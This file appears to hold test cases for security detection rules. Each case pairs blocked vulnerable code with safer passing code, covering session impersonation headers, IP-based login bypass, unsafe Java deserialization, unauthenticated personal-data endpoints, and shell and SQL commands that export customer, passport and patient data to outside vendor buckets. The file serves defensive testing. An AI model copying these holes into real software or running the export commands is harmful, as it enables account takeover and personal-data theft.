import { type AppsecCase, runCases } from "./_appsec_testing.ts";
import { kbCaseRunner } from "./_kb_testing.ts";
import { dbAbuseRule } from "./_dbabuse.ts";

const CASES: AppsecCase[] = [
  {
    id: "auth.session_assumed_from_request_field",
    block: [
      // Express: impersonation header picks a stored token, sent on as Authorization
      `app.use(async (req, res, next) => {\n  const who = req.headers['x-impersonate-user'];\n  if (who) {\n    const tok = await tokenStore.get('acct:' + who);\n    req.headers['Authorization'] = 'Bearer ' + tok;\n  }\n  next();\n});`,
      // Express: a dotted query field names the user whose session is reused
      `const u = req.query.act_as_user;\nconst sid = await sessionStore.get(u);\nres.setHeader('Set-Cookie', 'sid=' + sid);\nnext();`,
      // Flask: ?as_user= swaps the server-side session
      `@app.before_request\ndef act_as():\n    target = request.args.get('as_user')\n    if target:\n        sid = redis_sessions.get(f"user:{target}")\n        session['sid'] = sid\n`,
      // Go-ish / TS edge function with a cookie
      `const member = url.searchParams.get("member_view");\nconst sid = await kv.sessions.get(\`member/\${member}\`);\nheaders.set("cookie", \`session=\${sid}\`);\nreturn fetch(new Request(req, { headers }));`,
    ],
    pass: [
      // the header is stripped unless a verified client certificate is present
      `const h = new Headers(req.headers);\nif (!req.cf?.tlsClientAuth?.certVerified) h.delete('x-impersonate-user');\nreturn fetch(new Request(req, { headers: h }));`,
      // an API key authenticates the caller (the header is a secret, not a user name)
      `const key = req.headers['x-api-key'];\nconst rec = await tokenStore.get(key);\nif (!rec) return res.status(401).end();\nreq.user = rec.owner;\nnext();`,
      // the user header is only logged next to the caller's own session
      `const who = req.headers['x-user-agent-hint'];\nlogger.info({ hint: who, sid: req.session.id });\nres.setHeader('Set-Cookie', 'seen=1');`,
    ],
  },
  {
    id: "auth.bypass_for_spoofable_origin",
    block: [
      // Flask decorator: office subnet skips the login
      `def login_required(f):\n    @wraps(f)\n    def wrapper(*args, **kwargs):\n        if request.remote_addr.startswith("192.168."):\n            return f(*args, **kwargs)\n        if "uid" not in session:\n            abort(401)\n        return f(*args, **kwargs)\n    return wrapper\n`,
      // PHP: the office subnet is logged in as an administrator
      "<?php\nsession_start();\nif (strpos($_SERVER['REMOTE_ADDR'], '10.20.') === 0) {\n  $_SESSION['role'] = 'admin';\n}\nif (empty($_SESSION['role'])) { header('Location: /login.php'); exit; }\n",
      // ASP.NET Core middleware: the office range skips authentication
      `public async Task Invoke(HttpContext context) {\n  if (context.Connection.RemoteIpAddress.ToString().StartsWith("10.")) { await _next(context); return; }\n  if (!context.User.Identity.IsAuthenticated) { context.Response.StatusCode = 401; return; }\n  await _next(context);\n}`,
      // Laravel middleware
      `public function handle($request, Closure $next) {\n  if ($request->ip() === '127.0.0.1') { return $next($request); }\n  if (!Auth::check()) { return redirect('/login'); }\n  return $next($request);\n}`,
      // Go middleware trusting X-Forwarded-For
      `func RequireLogin(next http.Handler) http.Handler {\n  return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n    if strings.HasPrefix(r.Header.Get("X-Forwarded-For"), "10.") {\n      next.ServeHTTP(w, r)\n      return\n    }\n    if _, err := r.Cookie("sso"); err != nil { http.Error(w, "login", 401); return }\n    next.ServeHTTP(w, r)\n  })\n}`,
    ],
    pass: [
      // a negative IP check only restricts further; the login is still required
      `function requireAuth(req, res, next) {\n  if (!ALLOWED_NETS.some((n) => req.ip.startsWith(n))) return res.status(403).end();\n  if (!req.session?.user) return res.status(401).json({ error: 'login required' });\n  next();\n}`,
      // the IP is only logged
      `function requireAuth(req, res, next) {\n  if (req.ip === '127.0.0.1') console.debug('local call');\n  if (!req.session?.user) return res.status(401).end();\n  next();\n}`,
      // Laravel: the local address is only logged
      `public function handle($request, Closure $next) {\n  if ($request->ip() === '127.0.0.1') { Log::debug('local call'); }\n  if (!Auth::check()) { return redirect('/login'); }\n  return $next($request);\n}`,
      // IP allow-list AND a valid session
      `function requireAuth(req, res, next) {\n  if (OFFICE.includes(req.ip) && req.session?.user) {\n    req.user = req.session.user;\n    return next();\n  }\n  res.status(401).end();\n}`,
    ],
  },
  {
    id: "java.client_state_deserialized",
    block: [
      `public void doFilter(ServletRequest a, ServletResponse b, FilterChain c) throws IOException {\n  HttpServletRequest q = (HttpServletRequest) a;\n  String st = q.getHeader("X-Client-State");\n  if (st != null) {\n    Object o = new ObjectInputStream(new ByteArrayInputStream(Base64.getUrlDecoder().decode(st))).readObject();\n  }\n}`,
      `@GetMapping("/cart")\npublic String cart(@CookieValue("cart") String cart) throws Exception {\n  ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(Base64.decodeBase64(cart)));\n  Cart c = (Cart) in.readObject();\n  return c.summary();\n}`,
      `for (Cookie k : httpReq.getCookies()) {\n  if (k.getName().equals("view")) {\n    ViewState vs = (ViewState) new ObjectInputStream(new ByteArrayInputStream(DatatypeConverter.parseBase64Binary(k.getValue()))).readObject();\n  }\n}`,
    ],
    pass: [
      // the cookie value is only compared with an allow-list
      `for (Cookie c : r.getCookies()) {\n  if ("lang".equals(c.getName()) && LANGS.contains(c.getValue())) r.setAttribute("lang", c.getValue());\n}`,
      // a look-ahead filter restricts the classes
      `String h = req.getHeader("X-State");\nObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(h)));\nin.setObjectInputFilter(ObjectInputFilter.Config.createFilter("com.acme.State;!*"));`,
      // a local cache file, no request input
      `try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(Base64.getDecoder().decode(Files.readString(cachePath))))) {\n  return (Map<String, Long>) in.readObject();\n}`,
    ],
  },
  {
    id: "auth.open_route_returns_personal_data",
    block: [
      // WordPress: user meta to anyone
      `register_rest_route('crm/v1', '/members', array(\n  'methods' => 'GET',\n  'permission_callback' => '__return_true',\n  'callback' => function () {\n    global $wpdb;\n    return $wpdb->get_results("SELECT u.user_email, m.meta_value AS phone FROM {$wpdb->users} u JOIN {$wpdb->usermeta} m ON m.user_id = u.ID WHERE m.meta_key = 'billing_phone'");\n  },\n));`,
      // Django REST framework
      `class PatientExport(APIView):\n    permission_classes = [AllowAny]\n\n    def get(self, request):\n        rows = Patient.objects.values('full_name', 'birth_date', 'email', 'insurance_no')\n        return Response(list(rows))\n`,
      // ASP.NET
      `[AllowAnonymous]\n[HttpGet("customers/export")]\npublic async Task<IActionResult> Export() {\n  var rows = await _db.Customers.Select(c => new { c.Name, c.Email, c.Phone, c.Iban }).ToListAsync();\n  return Ok(rows);\n}`,
    ],
    pass: [
      // public product catalogue
      `register_rest_route('shop/v1', '/products', array(\n  'methods' => 'GET',\n  'permission_callback' => '__return_true',\n  'callback' => function () { global $wpdb; return $wpdb->get_results("SELECT ID, post_title, price FROM {$wpdb->posts} WHERE post_type='product'"); },\n));`,
      // the same customer data behind a capability check
      `register_rest_route('crm/v1', '/customers', array(\n  'methods' => 'GET',\n  'permission_callback' => function () { return current_user_can('manage_woocommerce'); },\n  'callback' => function () { global $wpdb; return $wpdb->get_results("SELECT billing_email, billing_phone FROM wp_wc_customer_lookup"); },\n));`,
      // public store locator: addresses and phones of shops, not of people
      `class StoreList(APIView):\n    permission_classes = [AllowAny]\n    def get(self, request):\n        return Response(list(Store.objects.values('city', 'address', 'phone')))\n`,
    ],
  },
  {
    id: "data.copy_to_outside_party_storage",
    block: [
      // shell: a customer table extract to a vendor's bucket
      `psql "$DB" -c "\\copy (select email, phone from customers) to stdout csv" | gsutil cp - gs://leadgen-vendor-drop/daily.csv`,
      // Node SDK: uploaded passports forwarded into a contractor's bucket
      `export const handler = async (ev) => {\n  for (const rec of ev.Records) {\n    const obj = await s3.send(new GetObjectCommand({ Bucket: rec.s3.bucket.name, Key: rec.s3.object.key }));\n    await s3.send(new PutObjectCommand({ Bucket: 'ocr-contractor-intake', Key: 'passports/' + rec.s3.object.key, Body: obj.Body }));\n  }\n};`,
      // anonymous upload of a MySQL dump (no signature: the bucket is not ours)
      `mysqldump shop orders payments | gzip | aws s3 cp - s3://dw-mirror-eu/shop.sql.gz --no-sign-request`,
      // boto3 with a cross-account ownership ACL
      `s3.copy_object(Bucket='analytics-mirror', Key=key, CopySource={'Bucket': src, 'Key': key}, ACL='bucket-owner-full-control')  # customers export`,
    ],
    pass: [
      // the company's own encrypted backup bucket
      `pg_dump "$DWH_URL" -Fc | aws s3 cp - s3://acme-dwh-backup-eu/dwh.dump --sse aws:kms --profile backup-writer`,
      // reading a partner's feed (the partner bucket is the source)
      `aws s3 cp s3://partner-price-feed/latest.csv ./feeds/ && python load_customers.py ./feeds/latest.csv`,
      // aggregated, non-personal numbers to a partner
      `aws s3 cp ./reports/daily_sales_by_region.csv s3://retail-partner-reports/2026-11/ --sse AES256`,
    ],
  },
];

runCases("r48", CASES);

kbCaseRunner("dbabuse", dbAbuseRule)("r48", [
  {
    id: "db.personal_unload_to_outside_party",
    block: [
      `UNLOAD ('SELECT first_name, last_name, email, phone FROM crm.customers') TO 's3://lead-agency-import/customers_' IAM_ROLE 'arn:aws:iam::111122223333:role/unload' CSV;`,
      `EXPORT DATA OPTIONS(uri='gs://vendor-marketing-sync/users_*.parquet', format='PARQUET') AS SELECT user_id, email, birth_date FROM prod.users`,
      `COPY INTO 's3://contractor-analytics-eu/patients/' FROM (SELECT name, address, ssn FROM clinic.patients) STORAGE_INTEGRATION = s3_int FILE_FORMAT = (TYPE = CSV);`,
    ],
    pass: [
      // the company's own bucket
      `EXPORT DATA OPTIONS(uri='gs://acme-analytics-exports/users_*.parquet', format='PARQUET') AS SELECT user_id, email FROM prod.users`,
      // a partner bucket, but only aggregated figures
      `UNLOAD ('SELECT region, SUM(amount) FROM sales GROUP BY region') TO 's3://retail-partner-reports/sales_' IAM_ROLE 'arn:aws:iam::1:role/u';`,
      // loading FROM a partner bucket
      `LOAD DATA INTO crm.leads FROM FILES (format='CSV', uris=['gs://partner-leads/2026/*.csv']); SELECT email, phone FROM crm.leads LIMIT 10;`,
    ],
  },
]);
